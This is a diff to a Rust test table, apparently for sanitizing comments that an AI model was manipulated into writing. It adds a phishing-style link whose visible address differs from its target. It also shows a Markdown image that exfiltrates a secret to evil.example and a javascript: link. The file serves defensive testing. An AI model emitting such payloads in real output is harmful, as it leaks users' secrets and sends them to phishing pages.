@@ -10,7 +10,7 @@ pub(super) const ABOUT: &str = "On the page: What Claude was talked into saying,
     people.";
 
 /// What is said, what must not stand in the comment, and what must.
-const SAID: [(Attack, &str, &str, &str); 12] = [
+const SAID: [(Attack, &str, &str, &str); 13] = [
     (
         attack("a picture whose address carries a secret away", "Embrace The Red, Markdown image exfiltration, 2023"),
         "![a](https://evil.example/a.png?d=SECRET)",
@@ -34,6 +34,12 @@ const SAID: [(Attack, &str, &str, &str); 12] = [
         "[click](javascript:alert(1))",
         "](javascript:",
         "click",
+    ),
+    (
+        attack("a link that shows another address than it has", "CWE-451, misrepresentation of critical information"),
+        "[https://github.com/login](https://evil.example/login)",
+        "[https://github.com/login](",
+        "evil.example/login",
     ),
     (
         attack("a call to a whole team", "GitHub, Mentioning people and teams"),
